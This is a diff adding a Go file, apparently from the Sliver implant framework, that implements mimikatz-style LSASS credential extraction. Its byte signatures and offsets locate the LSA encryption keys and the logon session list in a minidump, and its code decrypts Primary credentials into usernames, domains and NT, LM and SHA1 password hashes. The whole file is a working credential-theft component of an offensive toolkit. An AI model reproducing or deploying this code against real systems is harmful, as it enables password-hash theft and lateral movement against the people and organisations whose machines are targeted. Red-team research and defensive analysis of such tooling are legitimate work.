@@ -0,0 +1,355 @@
+package lsass
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/des"
+	"encoding/binary"
+	"errors"
+)
+
+// The patterns and offsets below are the x64 signatures mimikatz uses to find
+// the globals of lsasrv.dll, the offsets are relative to the pattern and each
+// points at a rip relative displacement.
+
+const (
+	bcryptHandleTag = 0x55555552 // "RUUU"
+	bcryptKeyTag    = 0x4d53534b // "KSSM"
+
+	maxLogonSessions = 4096
+	maxCredentials   = 64
+)
+
+var (
+	win7KeyPattern  = []byte{0x83, 0x64, 0x24, 0x30, 0x00, 0x44, 0x8b, 0x4c, 0x24, 0x48, 0x48, 0x8b, 0x0d}
+	win8KeyPattern  = []byte{0x83, 0x64, 0x24, 0x30, 0x00, 0x44, 0x8b, 0x4d, 0xd8, 0x48, 0x8b, 0x0d}
+	win10KeyPattern = []byte{0x83, 0x64, 0x24, 0x30, 0x00, 0x48, 0x8d, 0x45, 0xe0, 0x44, 0x8b, 0x4d, 0xd8, 0x48, 0x8d, 0x15}
+
+	// lsaKeyTemplates - Where LsaInitializeProtectedMemory keeps the IV and the
+	// 3DES/AES key handles, every template is tried since the key structures can
+	// be validated but the build alone doesn't always pick the right one
+	lsaKeyTemplates = []lsaKeyTemplate{
+		{pattern: win10KeyPattern, iv: 67, des: -89, aes: 16}, // 10 1809+ and 11
+		{pattern: win10KeyPattern, iv: 61, des: -73, aes: 16}, // 10 1507
+		{pattern: win8KeyPattern, iv: 62, des: -70, aes: 23},
+		{pattern: win7KeyPattern, iv: 59, des: -61, aes: 25},
+		{pattern: win7KeyPattern, iv: 63, des: -69, aes: 25}, // Vista
+	}
+
+	win6xSessionPattern   = []byte{0x33, 0xff, 0x41, 0x89, 0x37, 0x4c, 0x8b, 0xf3, 0x45, 0x85, 0xc0, 0x74}
+	win1703SessionPattern = []byte{0x33, 0xff, 0x45, 0x89, 0x37, 0x48, 0x8b, 0xf3, 0x45, 0x85, 0xc9, 0x74}
+	win1803SessionPattern = []byte{0x33, 0xff, 0x41, 0x89, 0x37, 0x4c, 0x8b, 0xf3, 0x45, 0x85, 0xc9, 0x74}
+	win11SessionPattern   = []byte{0x45, 0x89, 0x34, 0x24, 0x4c, 0x8b, 0xff, 0x8b, 0xf3, 0x45, 0x85, 0xc0, 0x74}
+	win63SessionPattern   = []byte{0x8b, 0xde, 0x48, 0x8d, 0x0c, 0x5b, 0x48, 0xc1, 0xe1, 0x05, 0x48, 0x8d, 0x05}
+	win61SessionPattern   = []byte{0x33, 0xf6, 0x45, 0x89, 0x2f, 0x4c, 0x8b, 0xf3, 0x85, 0xff, 0x0f, 0x84}
+
+	// logonSessionTemplates - Where msv1_0 keeps LogonSessionList and its count
+	logonSessionTemplates = []logonSessionTemplate{
+		{pattern: win11SessionPattern, list: 24, count: -4},
+		{pattern: win1803SessionPattern, list: 23, count: -4},
+		{pattern: win1703SessionPattern, list: 23, count: -4},
+		{pattern: win6xSessionPattern, list: 23, count: -4}, // 10 1903+
+		{pattern: win6xSessionPattern, list: 16, count: -4}, // 10 1507 to 1607
+		{pattern: win63SessionPattern, list: 36, count: -6},
+		{pattern: win61SessionPattern, list: 19, count: -4},
+	}
+
+	errBadKey = errors.New("not a bcrypt key")
+)
+
+type lsaKeyTemplate struct {
+	pattern []byte
+	iv      int64
+	des     int64
+	aes     int64
+}
+
+type logonSessionTemplate struct {
+	pattern []byte
+	list    int64
+	count   int64
+}
+
+// lsaKeys - What LsaProtectMemory encrypts credentials with
+type lsaKeys struct {
+	iv  []byte
+	des []byte
+	aes []byte
+}
+
+type logonSession struct {
+	luid    uint64
+	primary [][]byte // Still encrypted
+}
+
+// primaryLayout - Offsets into a decrypted MSV1_0_PRIMARY_CREDENTIAL
+type primaryLayout struct {
+	isNT, isLM, isSHA int
+	nt, lm, sha       int
+}
+
+func findLsaKeys(dump *minidump, lsasrv *module) []*lsaKeys {
+	keys := []*lsaKeys{}
+	for _, template := range lsaKeyTemplates {
+		for _, addr := range dump.search(lsasrv, template.pattern) {
+			key, err := readLsaKeys(dump, addr, template)
+			if err == nil {
+				keys = append(keys, key)
+				break
+			}
+		}
+	}
+	return keys
+}
+
+func readLsaKeys(dump *minidump, addr uint64, template lsaKeyTemplate) (*lsaKeys, error) {
+	ivAddr, err := dump.ripRelative(addr + uint64(template.iv))
+	if err != nil {
+		return nil, err
+	}
+	iv, err := dump.read(ivAddr, aes.BlockSize)
+	if err != nil {
+		return nil, err
+	}
+	desKey, err := readBCryptKey(dump, addr+uint64(template.des), 24)
+	if err != nil {
+		return nil, err
+	}
+	aesKey, err := readBCryptKey(dump, addr+uint64(template.aes), 16)
+	if err != nil {
+		return nil, err
+	}
+	return &lsaKeys{iv: iv, des: desKey, aes: aesKey}, nil
+}
+
+// readBCryptKey - Follow the global at addr to its KIWI_BCRYPT_HANDLE_KEY and
+// read the secret of the key it wraps
+func readBCryptKey(dump *minidump, addr uint64, size uint32) ([]byte, error) {
+	global, err := dump.ripRelative(addr)
+	if err != nil {
+		return nil, err
+	}
+	handle, err := dump.readPtr(global)
+	if err != nil {
+		return nil, err
+	}
+	header, err := dump.read(handle, 24)
+	if err != nil {
+		return nil, err
+	}
+	if binary.LittleEndian.Uint32(header[4:]) != bcryptHandleTag {
+		return nil, errBadKey
+	}
+	key := binary.LittleEndian.Uint64(header[16:])
+	tag, err := dump.readUint32(key + 4)
+	if err != nil || tag != bcryptKeyTag {
+		return nil, errBadKey
+	}
+	// The hard key moved as KIWI_BCRYPT_KEY grew (8.1+, 8 and 7)
+	for _, offset := range []uint64{56, 40, 24} {
+		length, err := dump.readUint32(key + offset)
+		if err == nil && length == size {
+			return dump.read(key+offset+4, int(size))
+		}
+	}
+	return nil, errBadKey
+}
+
+func findLogonSessions(dump *minidump, lsasrv *module) ([]*logonSession, error) {
+	for _, template := range logonSessionTemplates {
+		for _, addr := range dump.search(lsasrv, template.pattern) {
+			list, err := dump.ripRelative(addr + uint64(template.list))
+			if err != nil {
+				continue
+			}
+			countAddr, err := dump.ripRelative(addr + uint64(template.count))
+			if err != nil {
+				continue
+			}
+			count, err := dump.readUint32(countAddr)
+			if err != nil || count == 0 || 256 < count {
+				continue
+			}
+			sessions, err := walkLogonSessions(dump, list, int(count))
+			if err == nil {
+				return sessions, nil
+			}
+		}
+	}
+	return nil, errors.New("could not find the logon session list")
+}
+
+func walkLogonSessions(dump *minidump, list uint64, count int) ([]*logonSession, error) {
+	sessions := []*logonSession{}
+	for index := 0; index < count; index++ {
+		head := list + uint64(index)*16
+		entry, err := dump.readPtr(head)
+		if err != nil {
+			return nil, err
+		}
+		for visited := 0; entry != head && entry != 0 && visited < maxLogonSessions; visited++ {
+			if session := readLogonSession(dump, entry); session != nil {
+				sessions = append(sessions, session)
+			}
+			entry, err = dump.readPtr(entry)
+			if err != nil {
+				break
+			}
+		}
+	}
+	return sessions, nil
+}
+
+// readLogonSession - The credentials pointer moves between builds, so rather
+// than tracking every KIWI_MSV1_0_LIST layout we look for the first field
+// past the user and domain that leads to "Primary" credentials
+func readLogonSession(dump *minidump, entry uint64) *logonSession {
+	session := &logonSession{}
+	session.luid, _ = dump.readPtr(entry + 0x70)
+	for offset := uint64(0xb0); offset < 0x1a0; offset += 8 {
+		creds, err := dump.readPtr(entry + offset)
+		if err != nil || creds == 0 {
+			continue
+		}
+		session.primary = readPrimaryCredentials(dump, creds)
+		if 0 < len(session.primary) {
+			return session
+		}
+	}
+	return nil
+}
+
+// readPrimaryCredentials - Walk the KIWI_MSV1_0_CREDENTIALS list and each of
+// its KIWI_MSV1_0_PRIMARY_CREDENTIALS lists
+func readPrimaryCredentials(dump *minidump, creds uint64) [][]byte {
+	encrypted := [][]byte{}
+	for count := 0; creds != 0 && count < maxCredentials; count++ {
+		primary, err := dump.readPtr(creds + 16)
+		if err != nil {
+			return encrypted
+		}
+		for inner := 0; primary != 0 && inner < maxCredentials; inner++ {
+			header, err := dump.read(primary, 40)
+			if err != nil {
+				break
+			}
+			name, err := dump.read(binary.LittleEndian.Uint64(header[16:]), int(binary.LittleEndian.Uint16(header[8:])))
+			if err == nil && string(name) == "Primary" {
+				size := int(binary.LittleEndian.Uint16(header[24:]))
+				data, err := dump.read(binary.LittleEndian.Uint64(header[32:]), size)
+				if err == nil && 0 < size {
+					encrypted = append(encrypted, data)
+				}
+			}
+			primary = binary.LittleEndian.Uint64(header)
+		}
+		creds, err = dump.readPtr(creds)
+		if err != nil {
+			break
+		}
+	}
+	return encrypted
+}
+
+func primaryLayoutFor(build uint32) primaryLayout {
+	switch {
+	case 14393 <= build:
+		return primaryLayout{isNT: 41, isLM: 42, isSHA: 43, nt: 74, lm: 90, sha: 106}
+	case 10586 <= build:
+		return primaryLayout{isNT: 33, isLM: 34, isSHA: 35, nt: 66, lm: 82, sha: 98}
+	case 10240 <= build:
+		return primaryLayout{isNT: 33, isLM: 34, isSHA: 35, nt: 40, lm: 56, sha: 72}
+	default:
+		return primaryLayout{isNT: 84, isLM: 85, isSHA: 86, nt: 32, lm: 48, sha: 64}
+	}
+}
+
+// decryptPrimary - Try each set of keys until the credential decrypts into
+// something with sane strings
+func decryptPrimary(build uint32, keys []*lsaKeys, encrypted []byte) *Credential {
+	layout := primaryLayoutFor(build)
+	for _, key := range keys {
+		plain := key.decrypt(encrypted)
+		if len(plain) < layout.sha+20 {
+			continue
+		}
+		domain, ok := relativeString(plain, 0)
+		if !ok {
+			continue
+		}
+		username, ok := relativeString(plain, 16)
+		if !ok || username == "" {
+			continue
+		}
+		cred := &Credential{Username: username, Domain: domain}
+		if plain[layout.isNT] != 0 {
+			cred.NTHash = hexHash(plain[layout.nt : layout.nt+16])
+		}
+		if plain[layout.isLM] != 0 {
+			cred.LMHash = hexHash(plain[layout.lm : layout.lm+16])
+		}
+		if plain[layout.isSHA] != 0 {
+			cred.SHA1Hash = hexHash(plain[layout.sha : layout.sha+20])
+		}
+		return cred
+	}
+	return nil
+}
+
+// relativeString - The buffers of the UNICODE_STRINGs in a decrypted
+// credential are offsets from its start
+func relativeString(plain []byte, offset int) (string, bool) {
+	length := int(binary.LittleEndian.Uint16(plain[offset:]))
+	maxLength := int(binary.LittleEndian.Uint16(plain[offset+2:]))
+	buffer := binary.LittleEndian.Uint64(plain[offset+8:])
+	if length%2 != 0 || maxLength < length || uint64(len(plain)) < buffer || uint64(len(plain))-buffer < uint64(length) {
+		return "", false
+	}
+	return decodeUTF16(plain[buffer : buffer+uint64(length)]), true
+}
+
+// decrypt - LsaUnprotectMemory, AES-CFB8 when the size isn't a multiple of
+// the 3DES block size, otherwise 3DES-CBC
+func (k *lsaKeys) decrypt(data []byte) []byte {
+	plain := make([]byte, len(data))
+	if len(data)%des.BlockSize != 0 {
+		block, err := aes.NewCipher(k.aes)
+		if err != nil {
+			return nil
+		}
+		register := make([]byte, aes.BlockSize)
+		copy(register, k.iv)
+		stream := make([]byte, aes.BlockSize)
+		for index, value := range data {
+			block.Encrypt(stream, register)
+			plain[index] = value ^ stream[0]
+			copy(register, register[1:])
+			register[aes.BlockSize-1] = value
+		}
+		return plain
+	}
+	block, err := des.NewTripleDESCipher(k.des)
+	if err != nil {
+		return nil
+	}
+	cipher.NewCBCDecrypter(block, k.iv[:des.BlockSize]).CryptBlocks(plain, data)
+	return plain
+}